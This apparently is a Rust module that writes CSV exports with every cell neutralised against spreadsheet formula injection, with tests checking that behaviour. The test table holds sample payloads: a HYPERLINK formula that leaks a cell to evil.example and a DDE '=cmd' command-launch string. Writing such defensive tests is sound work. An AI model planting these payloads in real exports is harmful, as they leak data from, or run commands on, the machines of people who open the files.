//! The one way the server writes CSV: every cell is neutralised against formula
//! injection (OWASP: a cell starting with `=`, `+`, `-`, `@`, tab or CR is
//! prefixed with `'`), because a customer-chosen name can land in an export an
//! admin opens in a spreadsheet next to license keys.

/// A CSV document built row by row.
pub struct CsvOut {
    w: csv::Writer<Vec<u8>>,
}

/// Why a CSV could not be written (only memory or a bug: the writer is in memory).
#[derive(Debug, thiserror::Error)]
#[error("csv: {0}")]
pub struct CsvError(String);

/// The cell as a spreadsheet will show it, never as a formula.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

impl CsvOut {
    pub fn new() -> CsvOut {
        CsvOut {
            w: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// Writes one row, each cell neutralised.
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), CsvError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        self.w
            .write_record(&cells)
            .map_err(|e| CsvError(e.to_string()))
    }

    /// The finished document.
    pub fn finish(self) -> Result<Vec<u8>, CsvError> {
        self.w.into_inner().map_err(|e| CsvError(e.to_string()))
    }
}

impl Default for CsvOut {
    fn default() -> Self {
        CsvOut::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Security item 7: the OWASP table, and a round trip through a CSV reader.
    #[test]
    fn formula_cells_are_neutralised() {
        let table = [
            (
                "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
                true,
            ),
            ("+1+1", true),
            ("-2+3", true),
            ("@SUM(A1)", true),
            ("\t=1", true),
            ("\r=1", true),
            ("Ada Lovelace", false),
            ("ABCDE-12345", false),
            ("", false),
            (" =1", false),
        ];
        for (cell, risky) in table {
            let out = neutralise(cell);
            assert_eq!(
                out.starts_with('\'') && !cell.starts_with('\''),
                risky,
                "{cell:?}"
            );
            assert!(out.ends_with(cell));
        }
        let mut w = CsvOut::new();
        w.row(["name", "key"]).unwrap();
        w.row(["=cmd|' /C calc'!A0", "K-1"]).unwrap();
        let bytes = w.finish().unwrap();
        let mut r = csv::Reader::from_reader(bytes.as_slice());
        let rec = r.records().next().unwrap().unwrap();
        assert_eq!(&rec[0], "'=cmd|' /C calc'!A0");
    }

    /// The class stays closed: no other file writes CSV with the raw writer.
    #[test]
    fn only_this_module_writes_csv() {
        let mut offenders = Vec::new();
        let mut stack = vec![std::path::PathBuf::from(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/src"
        ))];
        while let Some(dir) = stack.pop() {
            for e in std::fs::read_dir(dir).unwrap().flatten() {
                let p = e.path();
                if p.is_dir() {
                    stack.push(p);
                } else if p.extension().is_some_and(|x| x == "rs") && !p.ends_with("csv_out.rs") {
                    let text = std::fs::read_to_string(&p).unwrap();
                    if text.contains("csv::Writer") {
                        offenders.push(p.display().to_string());
                    }
                }
            }
        }
        assert!(
            offenders.is_empty(),
            "write CSV through csv_out: {offenders:?}"
        );
    }
}
